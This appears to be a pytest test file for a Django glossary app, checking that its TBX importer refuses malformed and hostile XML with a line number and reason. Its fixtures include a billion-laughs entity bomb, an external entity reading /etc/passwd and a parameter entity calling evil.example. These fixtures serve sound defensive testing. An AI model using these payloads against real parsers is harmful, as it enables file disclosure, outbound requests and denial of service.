"""Broken and hostile TBX files are refused with the line and the reason."""

import pytest
from django.core.exceptions import ValidationError
from django.utils.translation import override

from glossary.interchange.tbx.reader import LARGEST, LONGEST
from imports import foreign
from tests.glossary.tbx_files import PLAIN, concept, read, v3

GOOD = v3(concept(PLAIN))
ENTITIES = (
    '<?xml version="1.0"?>\n<!DOCTYPE tbx [\n<!ENTITY a "ha">\n'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n'
)
EXTERNAL = '<!DOCTYPE tbx [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n'
PARAMETER = '<!DOCTYPE tbx [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>\n'

NOT_TBX, NOT_XML = "this is not a TBX file", "the file is not well-formed XML"
DOCTYPE, TOO_LARGE = "The file has entities or a DTD", "The file is too large"


@pytest.fixture(autouse=True)
def _english():
    with override("en"):
        yield


def changed(old, new, encoding="utf-8"):
    assert old in GOOD
    return lambda: GOOD.replace(old, new).encode(encoding)


REFUSED = {
    "nothing": (lambda: b" \n", "This is not a TBX file"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), f"Line 1: {NOT_XML}"),
    "a letter": (lambda: b"Dear colleagues", f"Line 1: {NOT_XML}"),
    "billion laughs": (lambda: ENTITIES + v3("&b;"), DOCTYPE),
    "an external entity": (
        lambda: EXTERNAL + v3("&a;"),
        DOCTYPE,
    ),
    "a parameter entity": (
        lambda: PARAMETER + v3(),
        DOCTYPE,
    ),
    "a DTD in UTF-16": (
        lambda: (PARAMETER + v3()).encode("utf-16"),
        DOCTYPE,
    ),
    "a DTD without entities": (
        lambda: "<!DOCTYPE tbx [<!ATTLIST note a CDATA 'b'>]>\n" + v3(),
        DOCTYPE,
    ),
    "an entity of a DTD that is not read": (
        lambda: '<!DOCTYPE tbx SYSTEM "a">\n' + v3("<note>&odd;</note>"),
        DOCTYPE,
    ),
    "an entity of no DTD": (
        changed("данные", "&nbsp;данные"),
        f"Line 4: {NOT_XML}",
    ),
    "200,000 nested elements": (
        lambda: GOOD.replace("<conceptEntry", "<x>" * 200_000 + "<conceptEntry"),
        TOO_LARGE,
    ),
    "200,000 nested elements in a text": (
        changed("данные", "<hi>" * 200_000 + "данные" + "</hi>" * 200_000),
        TOO_LARGE,
    ),
    "a huge text": (
        changed("данные", "д" * (LONGEST + 1)),
        "Line 4: the file is too large",
    ),
    "a huge file": (lambda: GOOD + " " * LARGEST, "The file is too large"),
    "a file that takes much memory": (
        lambda: v3(concept(PLAIN, "<a/>" * 3_000_000)),
        "The file is too large",
    ),
    "too many entries": (
        lambda: v3(*["<conceptEntry/>"] * 10_001),
        "Line 10003: the file is too large",
    ),
    "Windows-1251 that says it is UTF-8": (
        lambda: GOOD.encode("windows-1251"),
        f"Line 4: {NOT_XML}",
    ),
    "UTF-8 that says it is Windows-1251": (
        lambda: '<?xml version="1.0" encoding="windows-1251"?>' + GOOD,
        f"Line 1: {NOT_XML}",
    ),
    "an encoding that nobody knows": (
        lambda: '<?xml version="1.0" encoding="koi-99"?>' + v3(),
        f"Line 1: {NOT_XML}",
    ),
    "a NUL": (changed("данные", "дан\0ные"), f"Line 4: {NOT_XML}"),
    "an element that is not closed": (changed("</termSec>", ""), f"Line 4: {NOT_XML}"),
    "half a file": (lambda: GOOD[:-40], f"Line 4: {NOT_XML}"),
    "no entry": (lambda: v3(), f"Line 1: {NOT_TBX}"),
    "another namespace": (
        changed("urn:iso:std:iso:30042:ed-2", "urn:other"),
        f"Line 1: {NOT_TBX}",
    ),
    "TBX of 2008": (lambda: '<martif type="TBX"/>', f"Line 1: {NOT_TBX}"),
    "XLIFF": (lambda: "<?xml version='1.0'?>\n<xliff/>", f"Line 2: {NOT_TBX}"),
    "TBX-Min of 2014": (lambda: "<TBX dialect='TBX-Min'/>", f"Line 1: {NOT_TBX}"),
    "a web page": (
        lambda: b"<!DOCTYPE html><html><p>a</p></html>",
        f"Line 1: {NOT_TBX}",
    ),
}


@pytest.mark.parametrize("case", REFUSED)
def test_invalid_file_is_refused_with_line_and_reason(case):
    make, expected = REFUSED[case]
    with pytest.raises(ValidationError) as caught:
        read(make())
    [message] = caught.value.messages
    assert message.startswith(expected)


@pytest.mark.cold
def test_what_takes_too_much_time_is_refused(monkeypatch):
    monkeypatch.setattr(foreign, "SECONDS", 0)
    with pytest.raises(ValidationError, match="takes too long"):
        read(GOOD)


def test_reason_is_in_the_active_language():
    with override("ru"), pytest.raises(ValidationError) as caught:
        read(v3(concept(PLAIN)).replace("tbx", "xliff"))
    [message] = caught.value.messages
    assert message.startswith("Строка 1: это не файл TBX")
